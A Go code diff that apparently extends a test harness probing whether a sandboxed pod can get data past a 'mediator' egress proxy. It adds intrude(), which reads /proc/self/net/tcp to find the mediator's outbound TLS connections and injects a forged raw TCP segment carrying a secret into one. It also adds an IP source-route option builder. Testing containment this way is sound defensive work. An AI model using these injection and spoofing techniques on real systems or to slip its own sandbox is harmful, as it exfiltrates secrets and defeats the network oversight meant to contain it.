@@ -13,6 +13,7 @@ import (
 	"net/http"
 	"net/netip"
 	"os"
+	"strconv"
 	"strings"
 	"syscall"
 	"time"
@@ -207,8 +208,16 @@ func fetch(method, url string) error {
 	return nil
 }
 
-// post makes the one post that a rule allows.
+// nextEvent opens the pod's session for the next event, which comes each second.
+func nextEvent() error {
+	return get("http://mediator.internal/v1/event/next?wait=10s", "mediator.internal")()
+}
+
+// post makes the one post that a rule allows, for a fresh event.
 func post() error {
+	if err := nextEvent(); err != nil {
+		return err
+	}
 	return inTunnel(worldHost+":443", withTLS(worldHost, func(c net.Conn) error {
 		_ = c.SetDeadline(time.Now().Add(2 * agentPatience))
 		if _, err := io.WriteString(c, "POST /posts HTTP/1.1\r\nHost: "+worldHost+"\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}"); err != nil {
@@ -274,6 +283,40 @@ func ipv4Packet(protocol byte, from, to string, payload []byte) []byte {
 	return append(b, payload...)
 }
 
+// sourceRoute is the option (RFC 791) of a packet for one host that is to go by another.
+func sourceRoute(by, to string) []byte {
+	b := []byte{131, 11, 4}
+	for _, a := range []string{by, to} {
+		b = append(b, netip.MustParseAddr(a).AsSlice()...)
+	}
+	return append(b, 0)
+}
+
+// intrude sends a segment in a connection that the mediator has to the world. Every process of a pod can read which ones there are.
+func intrude() error {
+	if err := allowed["read by the proxy"](); err != nil { // so that there is one
+		return err
+	}
+	raw, err := os.ReadFile("/proc/self/net/tcp")
+	if err != nil {
+		return err
+	}
+	for line := range strings.Lines(string(raw)) {
+		fields := strings.Fields(line)
+		if len(fields) < 8 || fields[7] != fmt.Sprint(mediatorUID) || fields[3] != "01" || !strings.HasSuffix(fields[2], ":01BB") {
+			continue
+		}
+		from, err := strconv.ParseUint(fields[1][len(fields[1])-4:], 16, 16)
+		if err != nil {
+			return err
+		}
+		data := append(segment(uint16(from), 443), secret...)
+		data[13] = 0x18 // PSH and ACK
+		return bySocket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW, inet(worldAddress, 0), ipv4Packet(unix.IPPROTO_TCP, podAddress, worldAddress, data))()
+	}
+	return errors.New("the mediator has no connection")
+}
+
 // segment is a TCP SYN (RFC 9293) without a checksum that anybody would look at before it has left.
 func segment(from, to uint16) []byte {
 	b := make([]byte, 20)
@@ -301,6 +344,10 @@ func frame(options ...func(fd int) error) func() error {
 
 func option(level, name, value int) func(fd int) error {
 	return func(fd int) error { return unix.SetsockoptInt(fd, level, name, value) }
+}
+
+func options(raw []byte) func(fd int) error {
+	return func(fd int) error { return unix.SetsockoptString(fd, unix.IPPROTO_IP, unix.IP_OPTIONS, string(raw)) }
 }
 
 func bound(to unix.Sockaddr) func(fd int) error {
